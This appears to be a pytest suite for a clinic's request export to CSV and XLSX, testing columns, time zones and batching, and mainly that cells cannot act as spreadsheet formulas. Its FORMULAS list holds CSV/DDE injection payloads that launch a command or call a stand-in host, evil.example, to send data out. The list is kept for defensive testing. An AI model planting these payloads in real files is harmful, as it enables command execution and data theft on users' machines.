"""A file of requests holds what staff see, as text in every cell, and no program takes any of it for a formula."""

import csv
import shutil
import subprocess
import tracemalloc
import zipfile
from collections.abc import Iterable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from datetime import timedelta
from io import BytesIO, StringIO
from itertools import islice, product
from pathlib import Path
from xml.etree import ElementTree
from zoneinfo import ZoneInfo

import pytest
from django.db import connection

from rlsinfo.consultations import export, work
from rlsinfo.consultations.export import batches, csv_pieces, inert, rows, write_xlsx
from rlsinfo.consultations.models import ConsultationRequest, Event, Outcome, State, new_reference
from tests.factories import MONDAY_MORNING, make_mail, make_request, make_staff

SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
BEFORE = ("", " ", "\t", "\r", "\n", '"', "'", "\u00a0", "\u200b", "\ufeff", "“", ' \t"')
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/"&B2,"Ana")',
    '=WEBSERVICE("http://evil.example/")',
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("http://evil.example/";A1);"//a")',
    '=1+1";=2+2',
    "=1+1,=2+2",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1+1)",
    "\u22121+1",
)
PAYLOADS = [before + formula for before, formula in islice(product(BEFORE, FORMULAS), 200)]


@pytest.fixture(autouse=True)
def chicago(settings):
    settings.CLINIC = replace(settings.CLINIC, time_zone=ZoneInfo("America/Chicago"))
    settings.TIME_ZONE = "America/Chicago"


def as_table(requests=None) -> list[dict[str, str]]:
    heads, *lines = rows(ConsultationRequest.objects.all() if requests is None else requests)
    return [dict(zip(heads, line, strict=True)) for line in lines]


def as_csv(table: Iterable[list[str]]) -> bytes:
    heads, *lines = table
    return b"".join(csv_pieces(heads, [lines]))


def as_xlsx(table: Iterable[list[str]]) -> bytes:
    write_xlsx(file := BytesIO(), table)
    return file.getvalue()


def part_of(book: bytes, name: str) -> ElementTree.Element:
    return ElementTree.fromstring(zipfile.ZipFile(BytesIO(book)).read(f"xl/{name}.xml"))


# --- what stands in it --------------------------------------------------------------------------


@pytest.mark.django_db
def test_a_row_holds_what_staff_see_of_a_request():
    maria = make_staff(username="maria", first_name="Maria", last_name="Lopez")
    first = make_request(reference="CDFGHJKM", state=State.DECLINED)
    request = make_request(
        reference="K7MRXPXD",
        name="José Núñez",
        phone="+1 (555) 010-0177",
        email="jose@example.com",
        note="Evenings are worst.",
        help_needed="Spanish",
        source="/causes/iron-and-rls/",
        urgent=True,
        spam_reasons=["It holds a web address."],
        restored_at=MONDAY_MORNING,
        related_to=first,
        corrected_phone="555 010 0199",
        consent_page="https://www.example.org/consultation/request/",
        text_consent_version="texts-2026-11",
        text_consent_ended_at=MONDAY_MORNING + timedelta(hours=2),
    )
    make_mail(request=request)
    request.stops.create(scope="everything", at=MONDAY_MORNING + timedelta(hours=3), ended_at=MONDAY_MORNING)
    press = work.Press(Outcome.NO_ANSWER, token="t", version=1, why="=rang out")
    work.press(request, press, by=maria, now=MONDAY_MORNING + timedelta(minutes=20))
    request.record(Event.Kind.NOTED, at=MONDAY_MORNING + timedelta(hours=1), by=maria, why="Works nights.")

    row = as_table(ConsultationRequest.objects.filter(pk=request.pk))[0]

    assert row == {
        "Reference": "K7MRXPXD",
        "Received (America/Chicago)": "2026-11-16 09:00",
        "State": "Trying to reach them",
        "Closed because": "",
        "Day of the visit": "",
        "Name": "José Núñez",
        "Phone": "+1 (555) 010-0177",
        "E-mail": "jose@example.com",
        "Name, corrected": "",
        "Phone, corrected": "555 010 0199",
        "E-mail, corrected": "",
        "Best times": "Morning, Afternoon",
        "May leave a message": "yes",
        "Topic": "Restless legs or veins, I am not sure which",
        "Note": "Evenings are worst.",
        "Help needed": "Spanish",
        "Wrote in": "English",
        "Came from page": "/causes/iron-and-rls/",
        "Words that may be urgent": "yes",
        "Taken for spam because": "It holds a web address.",
        "Restored from spam (America/Chicago)": "2026-11-16 09:00",
        "Goes with request": "CDFGHJKM",
        "Waits since (America/Chicago)": "2026-11-16 09:00",
        "Due (America/Chicago)": "2026-11-16 09:50",
        "Overdue from (America/Chicago)": "2026-11-17 17:00",
        "Tries since contact": "1",
        "First try (America/Chicago)": "2026-11-16 09:20",
        "First contact (America/Chicago)": "",
        "Closed (America/Chicago)": "",
        "Wording they agreed to": "2026-11",
        "Agreed (America/Chicago)": "2026-11-16 09:00",
        "Agreed on page": "https://www.example.org/consultation/request/",
        "Wording for texts they agreed to": "texts-2026-11",
        "Wanted no more texts (America/Chicago)": "2026-11-16 11:00",
        "Asked us to stop (America/Chicago)": "2026-11-16 12:00",
        "E-mails": "Receipt to the patient: waiting to be sent",
        "What happened (America/Chicago)": (
            "2026-11-16 09:20 No answer, Maria Lopez: =rang out\n2026-11-16 10:00 Noted, Maria Lopez: Works nights."
        ),
    }


@pytest.mark.django_db
def test_every_time_names_its_zone_and_is_that_of_the_clinic_also_in_summer():
    make_request(received_at=MONDAY_MORNING.replace(month=7))

    assert as_table()[0]["Received (America/Chicago)"] == "2026-07-16 10:00"


@pytest.mark.django_db
def test_how_a_request_ended_stands_in_its_row():
    make_request(state=State.SCHEDULED)

    row = as_table()[0]

    assert (row["State"], row["Day of the visit"]) == ("Visit booked", "2026-11-16")
    assert row["Closed (America/Chicago)"] == "2026-11-16 09:00"


@pytest.mark.django_db
def test_what_was_undone_did_not_happen():
    maria, request = make_staff(), make_request()
    attempt = work.press(request, work.Press(Outcome.NO_ANSWER, "t", 1), by=maria, now=MONDAY_MORNING)
    work.undo(attempt, by=maria, now=MONDAY_MORNING)

    assert as_table()[0]["What happened (America/Chicago)"].startswith("2026-11-16 09:00 Undone")


@pytest.mark.django_db
def test_no_column_holds_what_only_the_site_should_know():
    request = make_request()
    work.press(request, work.Press(Outcome.NO_ANSWER, "the-token", 1), by=make_staff(), now=MONDAY_MORNING)
    mail = make_mail(request=request)

    cells = "\n".join(as_table()[0].values())

    for secret in (request.submission_key, request.content_hash, "the-token", mail.message_id):
        assert secret not in cells


@pytest.mark.django_db
def test_many_requests_need_no_more_questions_than_few(django_assert_num_queries):
    for _ in range(30):
        make_request()

    with django_assert_num_queries(5):
        assert len(as_table()) == 30


@pytest.fixture
def two_at_once(monkeypatch):
    monkeypatch.setattr(export, "AT_ONCE", 2)


@pytest.mark.django_db
@pytest.mark.parametrize("number", [0, 1, 2, 3, 4, 7])
def test_every_request_is_in_one_batch_also_those_that_came_at_one_instant(two_at_once, number):
    made = [make_request(received_at=MONDAY_MORNING + timedelta(minutes=at // 3)) for at in range(number)]

    read = [row[0] for batch in batches(ConsultationRequest.objects.all()) for row in batch]

    assert read == [each.reference for each in made]


@pytest.mark.django_db(transaction=True)
def test_between_two_batches_others_can_store_what_they_have(two_at_once):
    """On SQLite a question that is still being read would keep every writer waiting for as long as a file takes."""
    for _ in range(5):
        make_request()
    being_read = batches(ConsultationRequest.objects.all())
    next(being_read)

    def store() -> None:
        try:
            with connection.cursor() as cursor:
                if connection.vendor == "sqlite":
                    cursor.execute("PRAGMA busy_timeout = 50")
            make_request()
        finally:
            connection.close()

    with ThreadPoolExecutor() as somebody_else:
        somebody_else.submit(store).result()

    assert ConsultationRequest.objects.count() == 6


@pytest.mark.django_db
def test_memory_does_not_grow_with_the_file():
    def needed(requests: int) -> int:
        make_many(requests)
        tracemalloc.start()
        for _ in csv_pieces(export.heads(), batches(ConsultationRequest.objects.all())):
            pass
        _, most = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return most

    needed(300)
    few, many = needed(300), needed(1200)

    assert many < 1.2 * few


def make_many(number: int) -> None:
    one = make_request()
    fields = [each.attname for each in ConsultationRequest._meta.concrete_fields if each.name != "id"]
    ConsultationRequest.objects.bulk_create(
        ConsultationRequest(
            **{name: getattr(one, name) for name in fields}
            | {"reference": new_reference(), "submission_key": f"{one.pk}-{at}"}
        )
        for at in range(number)
    )


# --- the formats --------------------------------------------------------------------------------


def test_plain_text_opens_as_utf_8_with_every_cell_in_quotes():
    written = as_csv([["Name", "Note"], ["José", 'He said "no",\nthen left']])

    assert (
        written
        == b'\xef\xbb\xbf"Name","Note"\r\n"Jos\xc3\xa9","He said ""no"",\nthen left"\r\n"End of the file: 1 request",""\r\n'
    )


def test_a_workbook_says_how_many_requests_it_holds():
    assert write_xlsx(BytesIO(), [["Name"], ["Ana"], ["Ben"]]) == 2
    assert write_xlsx(BytesIO(), [["Name"]]) == 0


def test_the_last_line_of_plain_text_says_that_it_is_whole_and_has_as_many_cells_as_the_others():
    *_, last = csv.reader(StringIO(as_csv([["Name", "Phone", "Note"], ["Ana", "", ""], ["Ben", "", ""]]).decode()))

    assert last == ["End of the file: 2 requests", "", ""]


def test_plain_text_that_broke_off_does_not_end_like_a_whole_one():
    def break_off():
        yield [["Ana"]]
        raise OSError("no space left")

    pieces = csv_pieces(["Name"], break_off())
    came = next(pieces) + next(pieces)

    with pytest.raises(OSError, match="no space"):
        next(pieces)
    assert came.endswith(b'"Ana"\r\n')


def test_plain_text_begins_before_anything_is_read():
    def ask():
        yield pytest.fail("read too early")

    assert next(csv_pieces(["Name"], ask())).endswith(b'"Name"\r\n')


def test_a_workbook_holds_what_was_typed_character_for_character():
    book = part_of(as_xlsx([["Name"], *([payload] for payload in PAYLOADS)]), "worksheets/sheet1")

    cells = [cell.findtext(f"{SHEET}is/{SHEET}t") for cell in book.iter(f"{SHEET}c")]
    # A workbook writes a return as an escape of its own.
    assert [(cell or "").replace("_x000D_", "\r") for cell in cells[1:]] == PAYLOADS


def test_every_cell_of_a_workbook_is_text_and_none_a_formula_or_a_link():
    written = as_xlsx([["Name"], *([payload] for payload in [*PAYLOADS, "http://evil.example/", "12", ""])])
    sheet, styles = part_of(written, "worksheets/sheet1"), part_of(written, "styles")

    cells = [cell for cell in sheet.iter(f"{SHEET}c") if len(cell)]
    assert {cell.attrib["t"] for cell in cells} == {"inlineStr"}
    assert not list(sheet.iter(f"{SHEET}f"))
    assert not list(sheet.iter(f"{SHEET}hyperlink"))
    # Also when somebody edits it: the style says that it is text, as if an apostrophe had been typed first.
    style = styles.find(f"{SHEET}cellXfs")[int(cells[1].attrib["s"])]
    assert (style.attrib["numFmtId"], style.attrib["quotePrefix"]) == ("49", "1")


@pytest.mark.parametrize("letter", ["x", "é", "🦵"])
def test_a_very_long_history_is_cut_with_a_word_and_not_left_out(letter):
    book = part_of(as_xlsx([["What happened"], [letter * 40_000]]), "worksheets/sheet1")

    cell = list(book.iter(f"{SHEET}t"))[1].text or ""
    assert cell.startswith(letter * 1000)
    assert cell.endswith("(cut: the rest stands on the page of the request)")
    assert len(cell.encode("utf-16-le")) // 2 <= 32_767


# --- no formula ---------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_disarmed(payload):
    assert inert(payload) == f"'{payload}"


@pytest.mark.parametrize(
    "words", ["", "Ana Ortiz", "(555) 010-0177", "ana@example.com", "“Quoted”", "3 - 4 nights", "'s-Gravenhage", " x"]
)
def test_ordinary_words_stay_as_they_are(words):
    assert inert(words) == words


def test_a_number_with_a_plus_keeps_all_its_digits():
    assert inert("+1 555 010 0177") == "'+1 555 010 0177"


@pytest.mark.parametrize("before", ["\t", "\r", "\n"])
def test_a_tab_or_a_return_first_is_disarmed_whatever_follows(before):
    assert inert(f"{before}Ana") == f"'{before}Ana"


def converted(folder: Path, kind: str, *files: Path) -> list[Path]:
    """The same tables, opened and saved again by LibreOffice."""
    office = shutil.which("soffice")
    assert office, "LibreOffice is not installed: run `make tools`."
    into = folder / kind
    # Formulas in plain text are evaluated, as somebody would who ticks that box.
    read = "--infilter=CSV:44,34,76,1,,1033,false,true,false,false,false,-1,true"
    command = [office, f"-env:UserInstallation=file://{folder}/profile", "--headless", "--norestore"]
    command += [read] if files[0].suffix == ".csv" else []
    command += ["--convert-to", kind, "--outdir", str(into), *map(str, files)]
    subprocess.run(command, check=True, capture_output=True, timeout=180)
    return [into / f"{file.stem}.{kind}" for file in files]


def formulas_in(book: Path) -> list[str]:
    return [formula.text or "" for formula in part_of(book.read_bytes(), "worksheets/sheet1").iter(f"{SHEET}f")]


@pytest.mark.office
def test_two_hundred_formulas_stay_asleep_when_libreoffice_opens_and_saves_the_files(tmp_path):
    table = [["Name", "Note"], *([payload, payload] for payload in PAYLOADS)]
    plain, book, bare = tmp_path / "plain.csv", tmp_path / "book.xlsx", tmp_path / "bare.csv"
    plain.write_bytes(as_csv(table))
    book.write_bytes(as_xlsx(table))
    words = StringIO()
    csv.writer(words, quoting=csv.QUOTE_ALL).writerows(table)
    bare.write_text(words.getvalue(), encoding="utf-8", newline="")

    from_plain, from_bare = converted(tmp_path, "xlsx", plain, bare)
    (from_book,) = converted(tmp_path / "again", "xlsx", book)
    (saved_plain,) = converted(tmp_path / "saved", "csv", from_plain)
    (saved_twice,) = converted(tmp_path / "twice", "xlsx", saved_plain)

    # Without a guard those that LibreOffice knows wake up: the test can fail.
    assert len(formulas_in(from_bare)) >= 10
    assert formulas_in(from_plain) == formulas_in(from_book) == formulas_in(saved_twice) == []
